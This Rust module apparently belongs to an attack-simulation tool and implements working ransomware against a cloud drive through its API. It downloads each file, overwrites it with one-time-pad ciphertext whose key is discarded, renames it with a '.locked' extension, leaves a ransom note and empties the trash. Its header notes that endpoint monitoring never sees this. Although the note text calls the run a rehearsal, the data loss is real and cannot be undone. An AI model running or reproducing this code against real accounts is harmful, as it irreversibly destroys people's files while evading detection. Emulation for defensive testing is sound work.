//! Ransomware on a drive, by its API: each file is downloaded, its ciphertext uploaded in its place, and a new extension
//! put behind its name. A letter with demands follows, and at the end the trash is emptied.
//!
//! No program on anybody's computer is involved, so none that watches there sees it.

use ports::{Clock, Random};
use serde::Serialize;

use super::deeds::{Deeds, Pace, interval};

/// The name of the letter.
pub const NOTE: &str = "HOW_TO_DECRYPT.txt";
const DEMANDS: &str = "Your files are encrypted. This is a rehearsal: nobody asks you for anything.\n";

/// How it is played.
#[derive(Debug, Clone, PartialEq)]
pub struct RansomwareOptions {
    /// How many files are encrypted in a second.
    pub files_per_second: f64,
    /// What is put behind each name, without its dot.
    pub extension: String,
    /// Whether a letter is left.
    pub note: bool,
    /// Whether the trash is emptied at the end: what could be taken from there is gone as well.
    pub empty_trash: bool,
}

impl Default for RansomwareOptions {
    fn default() -> Self {
        Self { files_per_second: 3.0, extension: "locked".to_owned(), note: true, empty_trash: true }
    }
}

/// A file as it is found.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Victim {
    /// Its id.
    pub id: String,
    /// Its name.
    pub name: String,
}

/// One call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum LockCall {
    /// Downloads a file; its content is the answer.
    Read(String),
    /// Puts other content into a file.
    Overwrite(String, Vec<u8>),
    /// Gives a file another name.
    Rename(String, String),
    /// Makes a new file.
    Leave {
        /// Its name.
        name: String,
        /// Its content.
        content: Vec<u8>,
    },
    /// Empties the trash.
    EmptyTrash,
}

impl LockCall {
    /// Returns the method of the API.
    pub const fn name(&self) -> &'static str {
        match self {
            Self::Read(_) => "files.get, its content",
            Self::Overwrite(..) => "files.update, its content",
            Self::Rename(..) => "files.update, its name",
            Self::Leave { .. } => "files.create",
            Self::EmptyTrash => "files.emptyTrash",
        }
    }
}

/// Plays it on files of a drive; `call` carries out one call in the owner's name and answers with content where there is
/// any. It ends at the first call that is refused. `random` is the key: nobody keeps it.
pub fn play<E: std::fmt::Display>(
    clock: &dyn Clock,
    random: &dyn Random,
    options: &RansomwareOptions,
    files: &[Victim],
    mut call: impl FnMut(&LockCall) -> Result<Vec<u8>, E>,
) -> Deeds {
    let mut pace = Pace::new(clock, interval(options.files_per_second));
    let mut make = |pace: &mut Pace<'_>, planned: &LockCall, items: &[String]| {
        pace.call(planned.name(), items, || call(planned), |_| 1)
    };
    for file in files {
        pace.wait();
        let items = [file.id.clone()];
        let Some(mut content) = make(&mut pace, &LockCall::Read(file.id.clone()), &items) else {
            return pace.end();
        };
        encrypt(random, &mut content);
        let name = format!("{}.{}", file.name, options.extension);
        let writes = [LockCall::Overwrite(file.id.clone(), content), LockCall::Rename(file.id.clone(), name)];
        for planned in &writes {
            if make(&mut pace, planned, &items).is_none() {
                return pace.end();
            }
        }
    }
    let letter = LockCall::Leave { name: NOTE.to_owned(), content: DEMANDS.as_bytes().to_vec() };
    let last = [(options.note, letter), (options.empty_trash, LockCall::EmptyTrash)];
    for (_, planned) in last.iter().filter(|(wanted, _)| *wanted) {
        if make(&mut pace, planned, &[]).is_none() {
            break;
        }
    }
    pace.end()
}

/// Makes bytes into what looks like any ciphertext: a one-time pad that is thrown away.
fn encrypt(random: &dyn Random, content: &mut [u8]) {
    let mut pad = vec![0; content.len()];
    random.fill(&mut pad);
    content.iter_mut().zip(pad).for_each(|(byte, secret)| *byte ^= secret);
}
